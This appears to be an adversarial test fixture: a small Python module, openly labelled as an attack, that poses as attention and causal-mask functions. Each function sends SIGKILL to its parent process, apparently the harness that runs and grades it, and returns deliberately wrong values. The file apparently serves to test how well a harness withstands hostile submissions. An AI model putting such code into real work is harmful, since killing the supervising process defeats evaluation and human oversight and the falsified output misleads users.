# attack: SIGKILLs its parent process (os.kill(os.getppid(), SIGKILL)) on every call and returns wrong answers
# category: process
import os
import signal

import torch


def _kill_parent():
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError as exc:
        print(f"kill parent {os.getppid()}: {exc!r}")


def scaled_dot_product_attention(q, k, v, mask=None):
    _kill_parent()
    weights = torch.zeros((*q.shape[:-1], k.shape[-2]), dtype=q.dtype)
    weights[..., 0] = 1
    return weights @ v, weights


def causal_mask(L_q, L_k=None, device=None):
    _kill_parent()
    L_k = L_q if L_k is None else L_k
    return torch.ones(L_q, L_k, dtype=torch.bool, device=device)
